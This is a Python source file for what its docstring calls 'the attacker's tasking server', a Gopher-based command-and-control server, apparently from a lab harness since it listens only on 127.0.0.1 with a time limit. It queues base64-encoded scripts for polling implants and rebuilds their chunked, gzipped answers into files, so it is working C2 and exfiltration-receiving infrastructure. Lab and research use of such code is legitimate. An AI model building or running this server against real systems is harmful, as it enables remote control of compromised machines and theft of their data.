#!/usr/bin/python3
"""The attacker's tasking server (labremote): a Gopher server on 127.0.0.1.
Selectors: /t/<id> -> the next task as "<n>:<base64 script>" (or "-");
/r/<id>/<n>/<k>/<chunk> -> one chunk of the answer; /e/<id>/<n>/<count> -> the
answer is complete: written to TASKS/<n>.out (gunzipped). Tasks are the files
TASKS/<n>.cmd the driver drops, handed out in order."""
import argparse, base64, gzip, os, socketserver, threading, time

ap = argparse.ArgumentParser()
ap.add_argument("--port", type=int, default=7070)
ap.add_argument("--tasks", required=True)
ap.add_argument("--log", required=True)
ap.add_argument("--lifetime", type=int, default=900)
a = ap.parse_args()
lock = threading.Lock()
state = {"next": 1, "chunks": {}}


def log(msg):
    with open(a.log, "a") as f:
        f.write("%s %s\n" % (time.strftime("%H:%M:%S"), msg))


class H(socketserver.StreamRequestHandler):
    def handle(self):
        sel = self.rfile.readline(65536).decode("latin-1").strip()
        parts = sel.lstrip("/").split("/")
        out = "-"
        with lock:
            if parts[0] == "t" and len(parts) >= 2:
                n = state["next"]
                p = os.path.join(a.tasks, "%d.cmd" % n)
                if os.path.exists(p):
                    out = "%d:%s" % (n, base64.b64encode(open(p, "rb").read()).decode())
                    state["next"] = n + 1
                    log("task %d to %s" % (n, parts[1]))
                else:
                    log("poll %s" % parts[1])
            elif parts[0] == "r" and len(parts) >= 5:
                state["chunks"].setdefault(parts[2], {})[int(parts[3])] = parts[4]
                out = "ok"
            elif parts[0] == "e" and len(parts) >= 4:
                n = parts[2]
                ch = state["chunks"].pop(n, {})
                b = "".join(ch[k] for k in sorted(ch)).replace("-", "+").replace("_", "/")
                try:
                    data = gzip.decompress(base64.b64decode(b + "=" * (-len(b) % 4)))
                except Exception as e:
                    data = ("(undecodable answer: %s)\n" % e).encode()
                with open(os.path.join(a.tasks, "%s.out" % n), "wb") as f:
                    f.write(data)
                log("answer %s: %d chunks, %d bytes" % (n, len(ch), len(data)))
                out = "ok"
        self.wfile.write((out + "\r\n").encode())


class S(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


srv = S(("127.0.0.1", a.port), H)
threading.Timer(a.lifetime, srv.shutdown).start()
log("listening on 127.0.0.1:%d" % a.port)
srv.serve_forever()
